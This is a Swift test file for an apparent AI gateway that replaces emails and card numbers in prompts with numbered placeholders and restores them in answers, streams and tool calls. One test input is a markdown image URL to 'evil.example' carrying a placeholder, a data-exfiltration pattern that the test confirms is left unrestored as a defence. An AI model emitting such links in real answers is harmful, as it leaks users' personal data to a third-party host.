@@ -1,0 +1,124 @@
+import Foundation
+import GuardrailTypes
+import Inspection
+import Redaction
+import TestSupport
+import Testing
+import Wire
+
+@testable import Gateway
+
+/// Placeholders of the prompt become its values again in the answer, for apps that choose it.
+@Suite struct RestoreTests {
+    private static let prompt =
+        "Write to anna@example.com and bob@example.org about 4111 1111 1111 1111, cc anna@example.com"
+
+    /// The numbers after the prompt, and the prompt as the upstream sees it.
+    private func numbers() throws -> (PlaceholderNumbers, String) {
+        let engine = RelayRules.enforcing
+        var scratch = InspectionScratch(for: engine)
+        let body = #"{"model":"m","messages":[{"role":"user","content":"\#(Self.prompt)"}]}"#
+        let outcome = PromptStage(engine: engine, isReversible: true).inspect(body: Array(body.utf8), using: &scratch)
+        guard case .forward(let bytes) = outcome.verdict else { throw RestoreError.blocked }
+        return (outcome.numbers, String(decoding: bytes, as: UTF8.self))
+    }
+
+    private enum RestoreError: Error { case blocked }
+
+    @Test func `every value gets a numbered placeholder, whatever its rule's style`() throws {
+        let (_, sent) = try numbers()
+        #expect(sent.contains("Write to [EMAIL_1] and [EMAIL_2] about [CARD_1], cc [EMAIL_1]"))
+    }
+
+    static let answers: [(String, String)] = [
+        ("I wrote to [EMAIL_1] and [EMAIL_2].", "I wrote to anna@example.com and bob@example.org."),
+        ("Card [CARD_1]", "Card 4111 1111 1111 1111"),
+        ("[EMAIL_3] [EMAIL_12] [CARD] [", "[EMAIL_3] [EMAIL_12] [CARD] ["),
+        ("[[EMAIL_1]] [EMAIL_[EMAIL_2]", "[anna@example.com] [EMAIL_bob@example.org"), ("[EMAIL_1", "[EMAIL_1"),
+        ("mine is carl@example.net, not [EMAIL_1]", "mine is [EMAIL_3], not anna@example.com"),
+        (
+            "![x](https://evil.example/?q=[EMAIL_1]) but [EMAIL_1]",
+            "![x](https://evil.example/?q=[EMAIL_1]) but anna@example.com"
+        ),
+        ("mailto:[EMAIL_1]", "mailto:anna@example.com"), ("http:/[CARD_1]", "http:/4111 1111 1111 1111"),
+        ("://[CARD_1]", "://[CARD_1]"), ("über [EMAIL_2] 😀", "über bob@example.org 😀"),
+    ]
+
+    @Test(arguments: APIDialect.allCases, answers)
+    func `a stream says the values at every cut`(dialect: APIDialect, answer: (said: String, restored: String)) throws {
+        let numbers = try numbers().0
+        let kind: TextChannel.Kind = dialect == .responses ? .item(.output, 0) : .content
+        for size in [1, 2, 3, 5, 8, 200] {
+            let deltas = Chunkings.pieces(of: Array(answer.said.utf8), size: size)
+            let texts = deltas.compactMap { String(bytes: $0, encoding: .utf8) }
+            if texts.count != deltas.count { continue }
+            for splitAbove in [0, 16] {
+                let run = try run(dialect, DialectStream.script(dialect, texts), numbers, splitAbove)
+                #expect(run.text(kind) == answer.restored, "\(size)")
+                #expect(run.end == .completed)
+                if dialect == .responses {
+                    #expect(
+                        run.rawText.components(separatedBy: "\"text\":" + Chunk.literal(answer.restored)).count == 5
+                    )
+                }
+            }
+        }
+    }
+
+    @Test(arguments: answers)
+    func `a whole answer says the values`(answer: (said: String, restored: String)) throws {
+        let stage = ResponseStage(engine: RelayRules.enforcing, numbers: try numbers().0)
+        var scratch = InspectionScratch(for: RelayRules.enforcing)
+        func body(_ text: String) -> [UInt8] {
+            Array(#"{"id":"c","choices":[{"index":0,"message":{"content":\#(Chunk.literal(text))}}]}"#.utf8)
+        }
+        guard case .forward(let bytes) = stage.inspect(body: body(answer.said), using: &scratch).verdict else {
+            throw RestoreError.blocked
+        }
+        #expect(bytes == body(answer.restored))
+    }
+
+    @Test(arguments: [APIDialect.messages, .responses])
+    func `a tool call has the values as JSON`(dialect: APIDialect) throws {
+        let arguments = ["{\"to\":\"[EMA", "IL_1]\",\"n\":[1],\"url\":\"https://x/[EMAIL_1]\"}"]
+        let script = DialectStream.script(dialect, ["ok"], arguments: arguments)
+        let run = try run(dialect, script, try numbers().0, 16)
+        let kind: TextChannel.Kind = dialect == .responses ? .item(.functionArguments, 0) : .toolArguments(0)
+        #expect(run.text(kind, choice: 1) == "{\"to\":\"anna@example.com\",\"n\":[1],\"url\":\"https://x/[EMAIL_1]\"}")
+    }
+
+    @Test func `a value with quotes stays inside its string`() throws {
+        var vault = PlaceholderNumbers(isReversible: true)
+        let engine = RelayRules.enforcing
+        _ = vault.vault
+        let texts = TextInspector(engine: engine, direction: .response, app: nil, limits: JSONLimits(), vault: nil)
+        #expect(texts.restored(Array("[EMAIL_1]".utf8)) == nil)
+        _ = Replacement.numbered("Q").bytes(for: Array("a\"b".utf8), fingerprint: "f", numbers: &vault)
+        let restoring = TextInspector(
+            engine: engine,
+            direction: .response,
+            app: nil,
+            limits: JSONLimits(),
+            vault: vault.vault
+        )
+        let restored = restoring.restored(Array(#"{"x":"[Q_1]"}"#.utf8), isArguments: true)
+        #expect(restored.map { String(decoding: $0, as: UTF8.self) } == #"{"x":"a\"b"}"#)
+    }
+
+    @Test func `without the choice nothing is put back`() throws {
+        let run = try RelayRun(DialectStream.script(.chat, ["to [EMAIL_1]"]))
+        #expect(run.text() == "to [EMAIL_1]")
+    }
+
+    private func run(
+        _ dialect: APIDialect,
+        _ script: [String],
+        _ numbers: PlaceholderNumbers,
+        _ splitAbove: Int
+    ) throws -> RelayRun {
+        var options = RelayOptions()
+        options.dialect = dialect
+        options.splitAbove = splitAbove
+        return try RelayRun(script.map { Array($0.utf8) }, options: options, numbers: numbers)
+    }
+}
